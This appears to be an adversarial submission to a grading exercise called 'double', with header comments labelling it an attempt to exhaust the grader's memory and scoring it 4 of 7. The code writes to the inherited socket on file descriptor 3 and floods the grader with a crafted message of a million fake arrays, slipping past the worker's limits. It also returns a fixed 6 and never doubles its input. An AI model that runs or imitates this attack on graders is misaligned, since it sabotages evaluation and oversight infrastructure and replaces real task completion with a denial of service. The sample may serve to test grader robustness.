# Tries: to fill the memory of the grader with a million arrays, sent past the limits of the worker.
# Deserves: 4 of 7
# %% exercise="double"
import json, socket, struct
raw = socket.socket(fileno=3)
def double(x):
    count = 1_000_000
    text = json.dumps({"n": 5, "value": ["list", [["array", "|i1", [], k] for k in range(count)]]}).encode()
    raw.sendall(struct.pack(">II", len(text), count) + struct.pack(">Q", 1) * count + text + b"\x06" * count)
    return 6
